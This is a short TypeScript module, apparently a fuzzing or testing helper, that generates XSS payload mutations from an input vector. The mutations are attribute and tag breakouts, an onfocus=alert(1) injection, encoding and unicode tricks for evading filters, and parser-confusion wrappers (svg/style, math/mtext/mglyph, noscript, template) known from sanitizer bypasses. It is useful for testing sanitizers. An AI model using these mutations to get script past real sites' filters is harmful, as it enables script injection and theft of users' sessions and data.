/** Every second letter of each tag's name the other way up. */
const mixedCase = (markup: string): string => markup.replace(/<(\/?)([a-z][a-z0-9-]*)/gi, (_, slash: string, name: string) => `<${slash}${[...name].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter.toLowerCase())).join('')}`)

/** Ways out of the places that words are put into, ways round filters, and contexts in which parsers disagree about what stands in them. */
const WAYS: readonly ((markup: string) => string)[] = [
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `" autofocus onfocus=alert(1) x="${markup}`,
  (markup) => `--></title></style></textarea></script></noscript></template></svg>${markup}`,
  mixedCase,
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll('<', '&#x3c').replaceAll('>', '&#62;'),
  (markup) => encodeURIComponent(markup),
  (markup) => markup.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (markup) => markup.replaceAll('<', '＜').replaceAll('>', '＞').replaceAll('"', '＂'),
  (markup) => markup.replace(/(<[a-z]+)[\s/]+/gi, '$1\u000c/\u000a'),
  (markup) => markup.replaceAll('<', '<\u0000').replaceAll('=', '=\u0001'),
  (markup) => markup.replaceAll('<', '<<'),
  (markup) => `<svg><style>${markup}`,
  (markup) => `<math><mtext><table><mglyph><style><!--</style>${markup}`,
  (markup) => `<svg></p><style><a id="</style>${markup}">`,
  (markup) => `<form><math><mtext></form><form><mglyph><style></math>${markup}`,
  (markup) => `<noscript><p title="</noscript>${markup}">`,
  (markup) => `<template><iframe srcdoc="${markup.replaceAll('"', '&quot;')}">`,
  (markup) => `<!--><![CDATA[${markup}]]>`,
  (markup) => `<table><tr><td>${markup}<select><option>${markup}`,
]

/** A vector's mutations, none of them itself, each once. */
export const mutationsOf = (vector: string): string[] => [...new Set(WAYS.map((way) => way(vector)))].filter((one) => one !== vector)
